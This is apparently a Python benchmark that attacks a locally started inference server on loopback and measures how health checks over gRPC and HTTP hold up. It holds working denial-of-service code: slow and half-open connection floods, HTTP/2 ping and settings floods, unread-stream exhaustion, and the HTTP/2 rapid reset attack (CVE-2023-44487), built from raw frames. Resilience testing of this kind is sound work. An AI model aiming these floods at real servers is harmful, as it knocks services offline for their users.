"""What a good caller sees while others attack a server: `python -m bench.attacks`.

Each attack runs on loopback from one thread, bounded in count and time. Beside it a probe in a process
of its own asks ServerLive over gRPC and GET /v2/health/live over HTTP, on a connection that is open
and on new ones, and notes how long the slowest took and how many failed. With the baseline the rows
show by how much a caller is held up.
"""

import argparse
import http.client
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path

import grpc

from bench.process import ServerProcess, stop_servers_on_sigterm

_READY = re.compile(r"ready: gRPC on \S+:(\d+), HTTP on \S+:(\d+)")
_LIVE = "/inference.GRPCInferenceService/ServerLive"

#: How long an attack lasts, and how long the probe waits between two rounds.
_SECONDS, _PAUSE_SECONDS = 8.0, 0.02

#: After so long the probe calls an answer missing.
_PATIENCE = 10.0

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _PING, _RST_STREAM = 1, 4, 6, 3


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field without indexing or Huffman coding, of less than 127 bytes each."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _request(method: str) -> bytes:
    fields = {
        b":method": b"POST", b":scheme": b"http", b":path": method.encode(), b":authority": b"x",
        b"te": b"trailers", b"content-type": b"application/grpc",
    }  # fmt: skip
    return b"".join(_literal(name, value) for name, value in fields.items())


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=5)


Attack = Callable[[int, int, ExitStack, threading.Event], None]


def _many(stack: ExitStack, port: int, count: int, sent: bytes, over: threading.Event) -> None:
    """Open connections that send something, and no more; open again those that are closed."""
    held = []
    for _ in range(count):
        if over.is_set():
            return
        with suppress(OSError):
            connection = stack.enter_context(_connected(port))
            connection.sendall(sent)
            held.append(connection)
    over.wait()


def _http(sent: bytes, count: int = 4200) -> Attack:
    return lambda _, port, stack, over: _many(stack, port, count, sent, over)


def _http2(sent: bytes, count: int = 4200) -> Attack:
    return lambda port, _, stack, over: _many(stack, port, count, sent, over)


def _drip(sent: bytes, count: int) -> Attack:
    """Connections that send a byte a second each."""

    def attack(_: int, port: int, stack: ExitStack, over: threading.Event) -> None:
        held = []
        for _number in range(count):
            connection = stack.enter_context(_connected(port))
            connection.sendall(sent)
            held.append(connection)
        while not over.wait(1.0):
            for connection in held:
                with suppress(OSError):
                    connection.sendall(b"x")

    return attack


def _flood(opening: bytes, burst: bytes, *, read: bool, threads: int = 1) -> Attack:
    """Connections that send as fast as they can; again on a new one when the server closes it."""

    def send(port: int, over: threading.Event) -> None:
        while not over.is_set():
            with suppress(OSError), _connected(port) as connection:
                connection.sendall(opening)
                connection.settimeout(1)
                while not over.is_set():
                    connection.sendall(burst)
                    if read:
                        connection.setblocking(False)
                        with suppress(BlockingIOError):
                            if not connection.recv(1 << 16):
                                break
                        connection.settimeout(1)

    def attack(port: int, _: int, __: ExitStack, over: threading.Event) -> None:
        senders = [threading.Thread(target=send, args=(port, over)) for _ in range(threads)]
        for sender in senders:
            sender.start()
        for sender in senders:
            sender.join()

    return attack


def _streams(method: str, connections: int, each: int, message: bytes = b"") -> Attack:
    """Open streams on connections that never read an answer."""

    def attack(port: int, _: int, stack: ExitStack, over: threading.Event) -> None:
        block = _request(method)
        data = b"\0" + struct.pack(">I", len(message)) + message
        for _number in range(connections):
            connection = stack.enter_context(_connected(port))
            connection.settimeout(1)
            parts = [_PREFACE, _frame(_SETTINGS, 0, 0)]
            for index in range(each):
                parts.append(_frame(_HEADERS, 4, 2 * index + 1, block))
                parts.append(_frame(0, 0, 2 * index + 1, data))
            with suppress(OSError):
                connection.sendall(b"".join(parts))
            if over.is_set():
                return
        over.wait()

    return attack


_OPEN = _PREFACE + _frame(_SETTINGS, 0, 0)
_POST = b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\n"
_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


def _resets(count: int) -> bytes:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    block = _request(_LIVE)
    return b"".join(
        _frame(_HEADERS, 4, 2 * i + 1, block) + _frame(_RST_STREAM, 0, 2 * i + 1, bytes(4))
        for i in range(count)
    )


def _nothing(_: int, __: int, ___: ExitStack, over: threading.Event) -> None:
    """The baseline."""
    over.wait()


ATTACKS: dict[str, Attack] = {
    "none": _nothing,
    "HTTP: 4,200 connections that send nothing": _http(b""),
    "HTTP: 4,200 connections with half a head": _http(_POST),
    "HTTP: 4,200 connections with half a body": _http(_POST + b"Content-Length: 9\r\n\r\nx"),
    "HTTP: 1,000 heads, a byte a second": _drip(_POST + b"A: ", 1000),
    "gRPC: 4,200 connections that send nothing": _http2(b""),
    "gRPC: 4,200 connections without a call": _http2(_OPEN),
    "gRPC: 16,384 streams that nobody reads": _streams(_STREAM, 164, 100),
    "gRPC: 16,384 streams on one connection": _streams(_STREAM, 1, 16_384),
    "gRPC: ping flood": _flood(_OPEN, _frame(_PING, 0, 0, bytes(8)) * 1000, read=True),
    "gRPC: ping flood, answers unread": _flood(
        _OPEN, _frame(_PING, 0, 0, bytes(8)) * 1000, read=False
    ),
    "gRPC: settings flood": _flood(_OPEN, _frame(_SETTINGS, 0, 0) * 1000, read=True),
    "gRPC: garbage": _flood(b"", bytes(range(256)) * 256, read=True),
    "gRPC: rapid reset": _flood(_OPEN, _resets(1000), read=True),
}


# -- the probe ---------------------------------------------------------------------------------------


@contextmanager
def _channel(port: int) -> Iterator[grpc.Channel]:
    options = [("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(f"127.0.0.1:{port}", options) as channel:
        yield channel


def _ask_grpc(channel: grpc.Channel) -> None:
    call: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(_LIVE)
    call(b"", timeout=_PATIENCE)


def _ask_http(port: int) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=_PATIENCE)
    connection.request("GET", "/v2/health/live")
    status = connection.getresponse().status
    connection.close()
    if status != 200:
        raise OSError(f"HTTP status {status}")


def probe(grpc_port: int, http_port: int) -> None:
    """Ask until the standard input ends; print what was seen, a line a way of asking."""
    over = threading.Event()

    def wait() -> None:
        sys.stdin.read()
        over.set()

    threading.Thread(target=wait, daemon=True).start()

    def anew() -> None:
        with _channel(grpc_port) as channel:
            _ask_grpc(channel)

    with _channel(grpc_port) as opened:
        _ask_grpc(opened)
        ways: dict[str, Callable[[], None]] = {
            "gRPC": lambda: _ask_grpc(opened),
            "gRPC, new": anew,
            "HTTP, new": lambda: _ask_http(http_port),
        }
        took: dict[str, list[float]] = {way: [] for way in ways}
        failed = dict.fromkeys(ways, 0)

        def ask(way: str) -> None:
            while not over.wait(_PAUSE_SECONDS):
                began = time.perf_counter()
                try:
                    ways[way]()
                except (grpc.RpcError, OSError, http.client.HTTPException):
                    failed[way] += 1
                took[way].append(time.perf_counter() - began)

        askers = [threading.Thread(target=ask, args=(way,)) for way in ways]
        for asker in askers:
            asker.start()
        print("asking", flush=True)
        for asker in askers:
            asker.join()
    print(
        ";  ".join(
            f"{way}: {len(times):4d}, {failed[way]:3d} failed, max {1e3 * max(times):7.1f} ms"
            for way, times in took.items()
        )
    )


def _watched(grpc_port: int, http_port: int, attack: Attack) -> str:
    command = [sys.executable, "-m", "bench.attacks", "--probe", f"{grpc_port},{http_port}"]
    over = threading.Event()
    with (
        subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        ) as process,
        ExitStack() as stack,
    ):
        assert process.stdin is not None
        assert process.stdout is not None
        process.stdout.readline()
        attacker = threading.Thread(target=attack, args=(grpc_port, http_port, stack, over))
        attacker.start()
        time.sleep(_SECONDS)
        process.stdin.close()
        seen = process.stdout.read().strip()
        over.set()
        attacker.join()
    return seen


def main() -> int:
    """Measure; return the exit status."""
    stop_servers_on_sigterm()
    parser = argparse.ArgumentParser(prog="python -m bench.attacks", description=__doc__)
    parser.add_argument("--only", default="", metavar="REGEX", help="attacks whose name matches")
    parser.add_argument(
        "--command",
        default=str(Path(sys.executable).with_name("zoo")),
        metavar="FILE",
        help="the zoo command whose server is attacked (default: this environment's)",
    )
    parser.add_argument("--transport", default="fast", choices=("fast", "public"))
    parser.add_argument("--probe", metavar="PORTS", help=argparse.SUPPRESS)
    chosen = parser.parse_args()
    if chosen.probe:
        probe(*map(int, chosen.probe.split(",")))
        return 0
    for name, attack in ATTACKS.items():
        if re.search(chosen.only, name):
            print(f"{name:42s} {_attacked(chosen.command, chosen.transport, attack)}", flush=True)
    return 0


def _attacked(command: str, transport: str, attack: Attack) -> str:
    """Start a server without models, attack it, and return what the probe saw."""
    with tempfile.TemporaryDirectory(prefix="bench-") as work:
        folder = Path(work)
        (folder / "models").mkdir()
        log = folder / "server.log"
        arguments = [
            "serve", str(folder / "models"), "--grpc-port", "0", "--http-port", "0",
            "--metrics-port", "off", "--transport", transport,
        ]  # fmt: skip
        server = ServerProcess([command, *arguments], "0-1023", {}, log)
        try:
            server.wait_until(lambda: _READY.search(log.read_text()) is not None, 60)
            ports = _READY.search(log.read_text())
            assert ports is not None
            return _watched(int(ports[1]), int(ports[2]), attack)
        finally:
            server.stop()


if __name__ == "__main__":
    sys.exit(main())
